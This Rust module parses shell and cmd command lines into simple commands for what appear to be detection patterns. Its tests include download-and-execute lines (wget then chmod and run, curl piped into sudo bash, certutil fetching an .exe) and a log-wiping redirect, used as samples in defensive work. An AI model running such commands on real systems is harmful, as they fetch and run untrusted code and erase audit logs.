//! A command line → the simple commands in it. Deliberately absent: expansion, control flow, exactness. The
//! patterns ask "which programs, on what, in what order"; the whole shell grammar is another module's work.

use std::borrow::Cow;

/// Of a line, what is read.
const MAX_LINE_BYTES: usize = 16 << 10;
const MAX_COMMANDS: usize = 256;
const MAX_WORDS: usize = 256;
/// `sh -c '…'` in `$(…)` in `sh -c '…'`: deeper than this is left as text.
const MAX_DEPTH: usize = 4;

/// `A=1 sudo wget -O x u > y` → words `wget -O x u`, writes `y`.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(crate) struct Command<'a> {
    /// The program as written, then its arguments; quotes taken off. Never empty.
    pub(crate) words: Vec<Cow<'a, str>>,
    /// Targets of `>` and `>>`.
    pub(crate) writes: Vec<Cow<'a, str>>,
    /// Index of the command whose output it reads through a pipe.
    pub(crate) from: Option<usize>,
    /// Its output becomes part of another command: that one's program, empty where it *is* the command.
    pub(crate) feeds: Option<Cow<'a, str>>,
    /// Started through `busybox`.
    pub(crate) busybox: bool,
    /// Started through `sudo`, `nohup`, `xargs` and the like.
    pub(crate) wrapped: bool,
    /// Where in the first word its last part stands, without `.exe`.
    name: (u32, u32),
}

/// Every simple command of a line in the order they would run; at most 256, of the first 16 KiB.
pub(crate) fn commands(line: &str, windows: bool) -> Vec<Command<'_>> {
    let mut out = Vec::new();
    let line = &line[..line.floor_char_boundary(MAX_LINE_BYTES)];
    Lexer { text: line, at: 0, windows, depth: 0 }.run(&mut out, None);
    out.truncate(MAX_COMMANDS);
    out
}

/// `/bin/ls` → `ls`, `C:\Windows\cmd.exe` → `cmd.exe`.
pub(crate) fn base_name(path: &str) -> &str {
    memchr::memrchr2(b'/', b'\\', path.as_bytes()).map_or(path, |at| &path[at + 1..])
}

/// `C:\Windows\cmd.exe` → `cmd`.
fn program_of(path: &str) -> &str {
    let name = base_name(path);
    match name.len().checked_sub(4).filter(|at| name.is_char_boundary(*at)) {
        Some(at) if name[at..].eq_ignore_ascii_case(".exe") => &name[..at],
        _ => name,
    }
}

const SHELLS: &[&str] = &["sh", "bash", "dash", "ash", "zsh", "ksh", "csh", "tcsh"];
const INTERPRETERS: &[&str] = &["perl", "php", "ruby", "node", "lua", "pwsh", "powershell", "source", ".", "eval"];
/// Words that only run what follows them.
const WRAPPERS: &[&str] = &[
    "sudo", "nohup", "setsid", "exec", "command", "time", "doas", "env", "nice", "ionice", "timeout", "stdbuf",
    "xargs", "builtin", "strace", "then", "do", "else", "elif", "if", "while", "until", "!", "start", "call",
];

impl Command<'_> {
    /// As written.
    pub(crate) fn path(&self) -> &str {
        self.words.first().map_or("", |word| word.trim_start_matches('-'))
    }
    /// Its last part, without `.exe`.
    pub(crate) fn program(&self) -> &str {
        self.words.first().and_then(|it| it.get(self.name.0 as usize..self.name.1 as usize)).unwrap_or("")
    }
    /// In small letters, as nearly all are written.
    pub(crate) fn program_in_small(&self) -> Cow<'_, str> {
        let program = self.program();
        if program.bytes().any(|it| it.is_ascii_uppercase()) {
            program.to_ascii_lowercase().into()
        } else {
            program.into()
        }
    }
    /// Finds the program's name: asked for by every pattern, so once.
    fn named(mut self) -> Self {
        let start = self.words.first().map_or(0, |it| it.len()) - base_name(self.path()).len();
        self.name = (start as u32, (start + program_of(self.path()).len()) as u32);
        self
    }
    pub(crate) fn is(&self, names: &[&str]) -> bool {
        let program = self.program();
        names.iter().any(|name| program.eq_ignore_ascii_case(name))
    }
    pub(crate) fn args(&self) -> impl Iterator<Item = &str> {
        self.words.iter().skip(1).map(AsRef::as_ref)
    }
    /// Arguments that are no options.
    pub(crate) fn operands(&self) -> impl Iterator<Item = &str> {
        self.args().filter(|arg| !arg.starts_with('-'))
    }
    pub(crate) fn has_arg(&self, wanted: &str) -> bool {
        self.args().any(|arg| arg == wanted)
    }
    pub(crate) fn mentions(&self, part: &str) -> bool {
        self.words.iter().any(|word| word.contains(part))
    }
    pub(crate) fn is_shell(&self) -> bool {
        SHELLS.contains(&self.program())
    }
    /// Runs the text that it is given.
    pub(crate) fn is_interpreter(&self) -> bool {
        runs_text(self.program())
    }
    /// What it would write or read as a redirection, joined: for looking into echoed text.
    pub(crate) fn text(&self) -> String {
        self.words.join(" ")
    }
    fn into_owned<'b>(self) -> Command<'b> {
        let own = |words: Vec<Cow<'_, str>>| words.into_iter().map(|it| Cow::Owned(it.into_owned())).collect();
        Command {
            words: own(self.words),
            writes: own(self.writes),
            from: self.from,
            feeds: self.feeds.map(|it| Cow::Owned(it.into_owned())),
            busybox: self.busybox,
            wrapped: self.wrapped,
            name: self.name,
        }
    }
}

/// Whether a program of this name runs the text that it reads.
pub(crate) fn runs_text(program: &str) -> bool {
    SHELLS.contains(&program) || INTERPRETERS.contains(&program) || program.starts_with("python")
}

struct Lexer<'a> {
    text: &'a str,
    at: usize,
    windows: bool,
    depth: usize,
}

impl<'a> Lexer<'a> {
    fn run(mut self, out: &mut Vec<Command<'a>>, feeds: Option<Cow<'a, str>>) {
        let bytes = self.text.as_bytes();
        let mut now = Command::default();
        let mut redirect = false;
        let mut pipe_from = None;
        let mut after_group = false;
        while let Some(&byte) = bytes.get(self.at) {
            if out.len() >= MAX_COMMANDS {
                return;
            }
            match byte {
                b' ' | b'\t' | b'\r' => self.at += 1,
                // `2>&1`, `&>` and `>&`: the number was read as a word of its own or not at all.
                b'>' => {
                    self.at += 1;
                    while bytes.get(self.at).is_some_and(|b| matches!(b, b'>' | b'|')) {
                        self.at += 1;
                    }
                    if bytes.get(self.at) == Some(&b'&') {
                        self.at += 1;
                    }
                    if now.words.last().is_some_and(|word| matches!(word.as_ref(), "1" | "2")) {
                        now.words.pop();
                    }
                    redirect = true;
                }
                b'<' if bytes.get(self.at + 1) == Some(&b'(') && !self.windows => self.substitution(2, out, &now),
                b'<' => self.at += 1,
                b'&' if bytes.get(self.at + 1) == Some(&b'>') => self.at += 1,
                b';' if self.windows => self.at += 1,
                b';' | b'\n' | b'&' | b'|' | b'(' | b')' => {
                    let doubled = bytes.get(self.at + 1) == Some(&byte);
                    let piped = byte == b'|' && !doubled;
                    self.at += 1 + usize::from(doubled && matches!(byte, b'&' | b'|'));
                    let finished = std::mem::take(&mut now);
                    let pushed = self.push(finished, pipe_from.take(), feeds.clone(), out);
                    // `(a; b) | c`: what the group's last command says goes into the pipe.
                    let group = after_group.then(|| out.len().checked_sub(1)).flatten();
                    pipe_from = if piped { pushed.or(group) } else { None };
                    after_group = byte == b')';
                    redirect = false;
                }
                _ => {
                    let word = self.word(out, &now);
                    if redirect {
                        redirect = false;
                        if !matches!(word.as_ref(), "1" | "2" | "/dev/null" | "-") {
                            now.writes.push(word);
                        }
                    } else if now.words.len() < MAX_WORDS {
                        now.words.push(word);
                    }
                }
            }
        }
        self.push(now, pipe_from, feeds, out);
    }

    /// One word; `$(…)` and backticks in it are read as commands of their own, before it.
    fn word(&mut self, out: &mut Vec<Command<'a>>, now: &Command<'a>) -> Cow<'a, str> {
        let bytes = self.text.as_bytes();
        let start = self.at;
        // A shell's script is read when the command is whole, substitutions in it included.
        let is_script =
            now.words.last().is_some_and(|word| is_script_option(word)) && SHELLS.contains(&program_of(now.path()));
        let mut quote = 0u8;
        let mut owned: Option<String> = None;
        // Bytes of the word not yet copied begin here.
        let mut kept = start;
        let copy = |owned: &mut Option<String>, kept: &mut usize, upto: usize, skip: usize, text: &'a str| {
            owned.get_or_insert_default().push_str(text.get(*kept..upto).unwrap_or_default());
            *kept = upto + skip;
        };
        // The common whole-word quoting borrows: 'a b', "a b".
        let first = bytes[start];
        if (first == b'"' || first == b'\'')
            && let Some(end) = plain_quoted(bytes, start, self.windows)
        {
            self.at = end + 1;
            return Cow::Borrowed(&self.text[start + 1..end]);
        }
        while let Some(&byte) = bytes.get(self.at) {
            match byte {
                b'\\' if quote != b'\'' && !self.windows && bytes.get(self.at + 1).is_some_and(u8::is_ascii) => {
                    let next = bytes[self.at + 1];
                    // In double quotes only these lose their backslash; a log's unquoted `\x7f` stood in quotes once.
                    if (quote == 0 && next != b'x') || matches!(next, b'"' | b'\\' | b'$' | b'`') {
                        copy(&mut owned, &mut kept, self.at, 1, self.text);
                    }
                    self.at += 2;
                }
                b'\'' | b'"' if quote == 0 && !(self.windows && byte == b'\'') => {
                    quote = byte;
                    copy(&mut owned, &mut kept, self.at, 1, self.text);
                    self.at += 1;
                }
                _ if byte == quote => {
                    quote = 0;
                    copy(&mut owned, &mut kept, self.at, 1, self.text);
                    self.at += 1;
                }
                b'$' if quote != b'\'' && !is_script && !self.windows && bytes.get(self.at + 1) == Some(&b'(') => {
                    self.substitution(2, out, now);
                }
                b'`' if quote != b'\'' && !is_script && !self.windows => self.substitution(1, out, now),
                b' ' | b'\t' | b'\r' | b'\n' | b';' | b'&' | b'|' | b'(' | b')' | b'<' | b'>' if quote == 0 => {
                    // A Windows argument may hold `;` and brackets.
                    if self.windows && matches!(byte, b';' | b'(' | b')') {
                        self.at += 1;
                        continue;
                    }
                    break;
                }
                _ => self.at += 1,
            }
        }
        let end = self.at.min(bytes.len());
        match owned {
            Some(mut text) => {
                text.push_str(self.text.get(kept..end).unwrap_or_default());
                Cow::Owned(text)
            }
            None => Cow::Borrowed(self.text.get(start..end).unwrap_or_default()),
        }
    }

    /// At `$(`, `<(` or a backtick: reads what is inside as commands that feed the current one.
    fn substitution(&mut self, opening: usize, out: &mut Vec<Command<'a>>, now: &Command<'a>) {
        let bytes = self.text.as_bytes();
        let start = self.at + opening;
        let mut end = start;
        let mut depth = 1usize;
        while let Some(&byte) = bytes.get(end) {
            match (opening, byte) {
                (2, b'(') => depth += 1,
                (2, b')') | (1, b'`') => depth -= 1,
                _ => {}
            }
            if depth == 0 {
                break;
            }
            end += 1;
        }
        let inner = self.text.get(start..end.min(bytes.len())).unwrap_or_default();
        self.at = (end + 1).min(bytes.len());
        if self.depth < MAX_DEPTH {
            let program = Cow::Owned(base_name(now.path()).to_owned());
            Lexer { text: inner, at: 0, windows: self.windows, depth: self.depth + 1 }.run(out, Some(program));
        }
    }

    /// Takes wrappers off and appends; a shell's `-c` text is read in its place. The index of what was appended.
    fn push(
        &self,
        mut command: Command<'a>,
        from: Option<usize>,
        feeds: Option<Cow<'a, str>>,
        out: &mut Vec<Command<'a>>,
    ) -> Option<usize> {
        (command.from, command.feeds) = (from, feeds);
        unwrap(&mut command);
        if command.words.is_empty() {
            // `> file` alone empties the file.
            if command.writes.is_empty() {
                return None;
            }
            command.words.push(Cow::Borrowed(":"));
        }
        if let Some(at) = script_at(&command)
            && self.depth < MAX_DEPTH
        {
            let mut words = command.words.split_off(at);
            if words.first().is_some_and(|it| it.contains([' ', ';', '|', '&', '\n', '('])) {
                let first = out.len();
                let windows = self.windows;
                match words.swap_remove(0) {
                    Cow::Borrowed(text) => {
                        Lexer { text, at: 0, windows, depth: self.depth + 1 }.run(out, command.feeds);
                    }
                    Cow::Owned(text) => {
                        let mut inner = Vec::new();
                        Lexer { text: &text, at: 0, windows, depth: self.depth + 1 }.run(&mut inner, None);
                        out.extend(inner.into_iter().map(|it| {
                            let mut it = it.into_owned();
                            it.from = it.from.map(|index| index + first);
                            it
                        }));
                    }
                }
                return out.len().checked_sub(1).filter(|last| *last >= first);
            }
            // A process log joins its arguments by blanks: what follows `-c` is the first command itself.
            command.words = words;
            unwrap(&mut command);
            if command.words.is_empty() {
                return None;
            }
        }
        out.push(command.named());
        Some(out.len() - 1)
    }
}

/// The end of a word that is one quoted text and nothing else, and needs no change.
fn plain_quoted(bytes: &[u8], start: usize, windows: bool) -> Option<usize> {
    let quote = bytes[start];
    if windows && quote == b'\'' {
        return None;
    }
    let len = bytes[start + 1..].iter().position(|&b| b == quote)?;
    let end = start + 1 + len;
    let inside = &bytes[start + 1..end];
    if quote == b'"' && !windows && inside.iter().any(|b| matches!(b, b'\\' | b'$' | b'`')) {
        return None;
    }
    let last =
        bytes.get(end + 1).is_none_or(|b| b.is_ascii_whitespace() || matches!(b, b';' | b'&' | b'|' | b')' | b'>'));
    last.then_some(end)
}

/// Takes off assignments, wrappers with their options, and `busybox`.
fn unwrap(command: &mut Command<'_>) {
    let mut skip = 0;
    while let Some(word) = command.words.get(skip) {
        let name = base_name(word);
        let assignment = word
            .find('=')
            .is_some_and(|at| at > 0 && word.bytes().take(at).all(|b| b.is_ascii_alphanumeric() || b == b'_'));
        if assignment || matches!(word.as_ref(), "{" | "}" | "\\" | "") {
            skip += 1;
        } else if name == "busybox" && command.words.len() > skip + 1 {
            command.busybox = true;
            skip += 1;
        } else if WRAPPERS.contains(&name) && command.words.len() > skip + 1 {
            command.wrapped = true;
            skip += 1;
            // Their options, and the values of those that take one.
            while let Some(option) = command.words.get(skip) {
                let takes = matches!(option.as_ref(), "-u" | "-n" | "-I" | "-c" | "-g" | "-k" | "-s" | "-L" | "-P");
                let number = option.bytes().next().is_some_and(|b| b.is_ascii_digit());
                if !(option.starts_with('-') || (number && matches!(name, "timeout" | "nice"))) {
                    break;
                }
                skip += 1 + usize::from(takes && command.words.len() > skip + 2);
            }
        } else {
            break;
        }
    }
    command.words.drain(..skip.min(command.words.len()));
}

/// Where the script of `sh -c script` or `cmd /c script` stands among the words.
fn script_at(command: &Command<'_>) -> Option<usize> {
    let program = program_of(command.path());
    let windows_shell = program.eq_ignore_ascii_case("cmd");
    if !SHELLS.contains(&program) && !windows_shell {
        return None;
    }
    let at = command.words.iter().skip(1).take(8).position(|word| {
        if windows_shell {
            word.eq_ignore_ascii_case("/c") || word.eq_ignore_ascii_case("/k")
        } else {
            is_script_option(word)
        }
    })?;
    (command.words.len() > at + 2).then_some(at + 2)
}

/// `-c`, `-lc`, `-xec` …
fn is_script_option(word: &str) -> bool {
    word.starts_with('-') && !word.starts_with("--") && word.ends_with('c') && word.len() <= 5
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(line: &str, expect: &[&str]) {
        let got: Vec<String> = commands(line, false).iter().map(Command::text).collect();
        assert_eq!(got, expect, "{line}");
    }

    #[test]
    fn lines_fall_into_commands() {
        check(
            "cd /tmp; wget http://a/x -O x && chmod +x x || true & ./x",
            &["cd /tmp", "wget http://a/x -O x", "chmod +x x", "true", "./x"],
        );
        check("sh -c 'a b; c' d", &["a b", "c"]);
        check("sh -c a b; c", &["a b", "c"]);
        check("sudo -u www A=1 nohup timeout 10 /bin/busybox wget x", &["wget x"]);
        check("echo 'a;b' \"c|d\" e\\ f", &["echo a;b c|d e f"]);
        check("bash -c \"$(curl -s https://a.test/i)\"", &["curl -s https://a.test/i", "$(curl -s https://a.test/i)"]);
    }

    #[test]
    fn pipes_and_targets_are_kept() {
        let got = commands("curl -s u | tee /tmp/a | sudo bash -s > /tmp/log 2>&1", false);
        assert_eq!((got[1].from, got[2].from), (Some(0), Some(1)));
        assert_eq!(got[2].text(), "bash -s");
        assert_eq!(got[2].writes, ["/tmp/log"]);
        let got = commands("(a; b) | c", false);
        assert_eq!((got.len(), got[2].from), (3, Some(1)));
        let got = commands("bash <(curl u)", false);
        assert_eq!((got[0].text().as_str(), got[0].feeds.as_deref()), ("curl u", Some("bash")));
        assert_eq!(commands("> /var/log/wtmp", false)[0].writes, ["/var/log/wtmp"]);
    }

    #[test]
    fn windows_paths_keep_their_backslashes() {
        let got = commands(r#""C:\Windows\System32\cmd.exe" /c "certutil -f http://a C:\x.exe & C:\x.exe""#, true);
        let got: Vec<_> = got.iter().map(Command::text).collect();
        assert_eq!(got, [r"certutil -f http://a C:\x.exe", r"C:\x.exe"]);
    }

    #[test]
    fn hostile_lines_are_bounded() {
        for line in [
            "$(".repeat(50_000),
            "`".repeat(9999),
            "sh -c '".repeat(9999),
            "a;".repeat(99_999),
            "'\"\\".repeat(5000),
            "é$(é`é\\é'é".repeat(3000),
        ] {
            assert!(commands(&line, false).len() <= MAX_COMMANDS);
            assert!(commands(&line, true).len() <= MAX_COMMANDS);
        }
    }
}
